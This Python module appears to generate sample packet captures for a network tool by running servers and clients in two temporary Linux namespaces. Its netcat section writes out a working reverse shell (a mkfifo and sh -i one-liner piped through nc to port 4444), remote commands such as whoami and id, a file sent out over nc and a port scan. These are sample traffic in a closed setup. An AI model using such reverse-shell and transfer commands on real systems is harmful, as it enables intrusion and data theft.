"""tools.pcap: the command line tools of a Mac's terminal, really talking, recorded by tcpdump.

Two network namespaces are made and removed again: "here" with the clients at 10.77.0.2, "there" with the servers at
203.0.113.10 (an address for documentation, so that it counts as outside). The programs are those of this machine,
Linux's, so what is typical of Apple's builds (curl's TLS, ping's payload) is not in it; what the tools do is.
"""
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE, THERE = "lunette-here", "lunette-there"
CLIENT, GATEWAY, SERVER = "10.77.0.2", "10.77.0.1", "203.0.113.10"
NAME = "files.sample.example"
PROGRAMS = {"ip": "iproute2", "ethtool": "ethtool", "tcpdump": "tcpdump", "curl": "curl", "openssl": "openssl",
            "ssh": "openssh-client", "scp": "openssh-client", "sshd": "openssh-server", "ssh-keygen": "openssh-client",
            "nc": "netcat-openbsd", "dig": "bind9-dnsutils", "dnsmasq": "dnsmasq-base", "ping": "iputils-ping"}


def need_tools():
    if os.geteuid() != 0:
        sys.exit("make_samples.py tools: network namespaces need root: run it with sudo")
    os.environ["PATH"] += ":/usr/sbin:/sbin"
    missing = sorted({package for program, package in PROGRAMS.items() if not shutil.which(program)})
    if missing:
        sys.exit("make_samples.py tools: install first: " + " ".join(missing))


class Stage:
    """The two namespaces and the processes started in them; leaving the block ends and removes all of it."""

    def __enter__(self):
        self.folder = tempfile.mkdtemp(prefix="lunette-samples-")
        self.running = []
        try:
            self.build()
        except Exception:
            self.__exit__()
            raise
        return self

    def build(self):
        for space in (HERE, THERE):
            run("ip", "netns", "add", space)
            run("ip", "-n", space, "link", "set", "lo", "up")
        run("ip", "link", "add", "en0", "netns", HERE, "type", "veth", "peer", "name", "en0", "netns", THERE)
        for space, address in ((HERE, CLIENT), (THERE, GATEWAY)):
            run("ip", "-n", space, "address", "add", address + "/24", "dev", "en0")
            run("ip", "-n", space, "link", "set", "en0", "up")
            # Without this the recorder sees 64 KB packets with sums that nobody has computed yet.
            run("ip", "netns", "exec", space, "ethtool", "-K", "en0", "tx", "off", "tso", "off", "gso", "off", "gro",
                "off")
        run("ip", "-n", THERE, "address", "add", SERVER + "/32", "dev", "lo")
        run("ip", "-n", HERE, "route", "add", "default", "via", GATEWAY)

    def path(self, name, content=None):
        path = os.path.join(self.folder, name)
        if content is not None:
            with open(path, "wb") as file:
                file.write(content)
        return path

    def start(self, space, *command, **options):
        options = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, **options}
        process = subprocess.Popen(["ip", "netns", "exec", space, *command], **options)
        self.running.append(process)
        return process

    def __exit__(self, *_):
        for process in reversed(self.running):
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
                try:
                    process.wait(5)
                except subprocess.TimeoutExpired:
                    process.kill()
        for space in (HERE, THERE):
            subprocess.run(["ip", "netns", "del", space], stderr=subprocess.DEVNULL, check=False)
        shutil.rmtree(self.folder, ignore_errors=True)


def run(*command, **options):
    options = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "check": True, "timeout": 60, **options}
    return subprocess.run(command, **options)


def here(*command, **options):
    return run("ip", "netns", "exec", HERE, *command, **options)


def wait_for(stage, port, address=SERVER):
    """Until somebody listens; asked inside the servers' namespace, so that the recording does not show it."""
    probe = f"import socket; socket.create_connection(('{address}', {port}), 1)"
    for _ in range(100):
        if subprocess.run(["ip", "netns", "exec", THERE, sys.executable, "-c", probe],
                          stderr=subprocess.DEVNULL, check=False).returncode == 0:
            return
        time.sleep(0.1)
    raise RuntimeError(f"nobody listens on port {port} of {address}")


def start_servers(stage):
    web = os.path.join(stage.folder, "web")
    os.mkdir(web)
    with open(os.path.join(web, "index.html"), "w", encoding="ascii") as page:
        page.write("<html><body>a page</body></html>\n" * 40)
    stage.start(THERE, sys.executable, "-m", "http.server", "80", "--bind", SERVER, "--directory", web)
    stage.start(THERE, "dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--conf-file=/dev/null",
                f"--listen-address={GATEWAY}", "--bind-interfaces", f"--address=/{NAME}/{SERVER}",
                f"--txt-record=note.{NAME},a line of text", f"--cname=www.{NAME},{NAME}", f"--pid-file={stage.path('pid')}")
    key, certificate = stage.path("key.pem"), stage.path("certificate.pem")
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-days", "30",
        "-subj", f"/O=Sample/CN={NAME}", "-addext", f"subjectAltName=DNS:{NAME},DNS:*.{NAME}", stderr=subprocess.DEVNULL)
    for port, version in ((443, "-tls1_3"), (8443, "-tls1_2")):
        stage.start(THERE, "openssl", "s_server", "-accept", f"{SERVER}:{port}", "-www", version, "-key", key, "-cert",
                    certificate)
    for name in ("host_key", "user_key"):
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", stage.path(name))
    os.makedirs("/run/sshd", mode=0o755, exist_ok=True)
    stage.start(THERE, shutil.which("sshd"), "-D", "-f", "/dev/null", "-o", f"ListenAddress={SERVER}", "-o",
                f"HostKey={stage.path('host_key')}", "-o", f"AuthorizedKeysFile={stage.path('user_key.pub')}", "-o",
                "PermitRootLogin=yes", "-o", "StrictModes=no", "-o", "UsePAM=no", "-o", "PidFile=none", "-o",
                "Subsystem=sftp internal-sftp")
    for port in (80, 443, 8443, 22):
        wait_for(stage, port)
    wait_for(stage, 53, GATEWAY)


def names_and_web(stage):
    for question in ((NAME, "A"), (NAME, "HTTPS"), (f"www.{NAME}", "A"), (f"note.{NAME}", "TXT"), ("gone.invalid", "A")):
        here("dig", f"@{GATEWAY}", "+tries=1", *question)
    here("ping", "-c", "3", SERVER)
    resolve = ["--resolve", f"{NAME}:80:{SERVER}", "--resolve", f"{NAME}:443:{SERVER}", "--resolve",
               f"{NAME}:8443:{SERVER}"]
    curl = ["curl", "-s", "-k", "--noproxy", "*", "--max-time", "20", *resolve]
    here(*curl, f"http://{NAME}/")
    here(*curl, f"http://{NAME}/missing", f"http://{NAME}/index.html")
    here(*curl, "-F", f"file=@{stage.path('out.zip', b'PK' + bytes(30000))}", f"http://{SERVER}/upload", check=False)
    here(*curl, f"https://{NAME}/")
    here(*curl, f"https://{NAME}:8443/")


def secure_shell(stage):
    options = ["-F", "/dev/null", "-i", stage.path("user_key"), "-o", "StrictHostKeyChecking=no", "-o",
               "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]
    here("ssh", *options, f"root@{SERVER}", "uname -s; true")
    typed = stage.start(HERE, "ssh", "-tt", *options, f"root@{SERVER}", "sh", stdin=subprocess.PIPE)
    for line in ("pwd", "id", "ls /", "exit"):
        for letter in line + "\n":
            typed.stdin.write(letter.encode())
            typed.stdin.flush()
            time.sleep(0.12)
        time.sleep(0.6)
    typed.wait(20)
    upload = stage.path("upload.bin", os.urandom(90000))
    here("scp", "-q", *options, upload, f"root@{SERVER}:{stage.path('received.bin')}")


def netcat(stage):
    """A shell handed out over a bare connection, a file, and a look at twelve ports."""
    listener = stage.start(THERE, "nc", "-l", SERVER, "4444", stdin=subprocess.PIPE)
    time.sleep(0.5)
    pipe = stage.path("pipe")
    shell = stage.start(HERE, "sh", "-c", f"mkfifo {pipe}; PS1='sh$ ' sh -i <{pipe} 2>&1 | nc {SERVER} 4444 >{pipe}",
                        start_new_session=True)
    for line in ("whoami", "id", "uname -s", "echo $HOME", "ls /etc/ssl", "exit"):
        time.sleep(1.1)
        listener.stdin.write(line.encode() + b"\n")
        listener.stdin.flush()
    listener.stdin.close()
    shell.wait(20)
    receiver = stage.start(THERE, "nc", "-l", SERVER, "9001")
    time.sleep(0.5)
    with open(stage.path("notes.txt", b"a line of notes, again and again\n" * 400), "rb") as notes:
        here("nc", "-N", SERVER, "9001", stdin=notes)
    receiver.wait(20)
    here("nc", "-z", "-w", "1", SERVER, "8000-8011", check=False, stderr=subprocess.DEVNULL)


def record(path):
    need_tools()
    with Stage() as stage:
        start_servers(stage)
        recording = stage.path("tools.pcap")
        recorder = stage.start(HERE, "tcpdump", "-i", "en0", "-U", "-w", recording, "ip or arp")
        while not os.path.exists(recording) or os.path.getsize(recording) < 24:
            time.sleep(0.1)
        names_and_web(stage)
        secure_shell(stage)
        netcat(stage)
        time.sleep(1)
        recorder.send_signal(signal.SIGINT)
        recorder.wait(10)
        shutil.copyfile(recording, path)
    print(f"{os.path.basename(path)}: {os.path.getsize(path) / 1e3:.0f} KB")
